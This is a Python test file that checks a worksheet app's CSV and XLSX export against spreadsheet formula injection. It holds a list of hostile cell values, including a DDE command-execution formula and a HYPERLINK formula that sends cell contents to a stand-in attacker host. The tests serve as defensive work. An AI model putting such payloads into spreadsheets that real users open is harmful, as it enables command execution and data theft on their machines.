"""Worksheets from careless or hostile colleagues: no live formulas out, bounded work in."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest

from app import model, worksheets
from app.storage import rows, safe
from app.worksheets.cells import FORMULA_STARTS

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
           "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\uff1d1+1"]


def _csv(path: Path, lines: list[list[Any]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(lines)
    return path


@pytest.fixture
def hostile_book(wb: Any, tmp_path: Path) -> Path:
    """Return a workbook whose programmes and KPIs were named to run formulas."""
    path = wb.path
    wb.close()
    lines: list[list[Any]] = [["nama", "dimensi", "mulai", "selesai", "sumber", "anggaran_2020",
                               "indikator", "target_2020"]]
    lines += [[name, "SG", 2020, 2021, "APBD", 1_500_000 + i, f"={i}+1", 10 + i]
              for i, name in enumerate(HOSTILE)]
    worksheets.import_file(path, "programmes", _csv(tmp_path / "in.csv", lines))
    return path


def _names(path: Path) -> set[str]:
    db = safe.load_copy(path)
    try:
        return {p.name for p in rows.select(db, model.Programme)}
    finally:
        db.conn.close()


def test_the_hostile_names_went_in_as_written(hostile_book: Path) -> None:
    assert _names(hostile_book) == {name.strip() for name in HOSTILE}


def test_no_csv_text_cell_starts_a_formula_and_numbers_stay_numbers(
        hostile_book: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    worksheets.export_programmes(hostile_book, out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle, delimiter=";"))
    header, body = lines[0], lines[1:]
    cells = [cell for line in body for cell in line]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    names = [line[header.index("nama")] for line in body]
    assert "'=cmd|' /C calc'!A0" in names and "'@SUM(1+1)" in names
    assert {line[header.index("anggaran_2020")] for line in body} == {
        str(1_500_000 + i) for i in range(len(HOSTILE))}


def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers(
        hostile_book: Path, tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "out.xlsx"
    worksheets.export_programmes(hostile_book, out)
    sheet = openpyxl.load_workbook(out).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
    budgets = [line[header.index("anggaran_2020")].value for line in sheet.iter_rows(min_row=2)]
    assert budgets == sorted(1_500_000 + i for i in range(len(HOSTILE)))
    assert all(isinstance(amount, int) for amount in budgets)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_exported_sheet_imports_back_to_the_same_names(
        hostile_book: Path, tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"out{suffix}"
    worksheets.export_programmes(hostile_book, out)
    before = _names(hostile_book)
    worksheets.import_file(hostile_book, "programmes", out)
    assert _names(hostile_book) == before
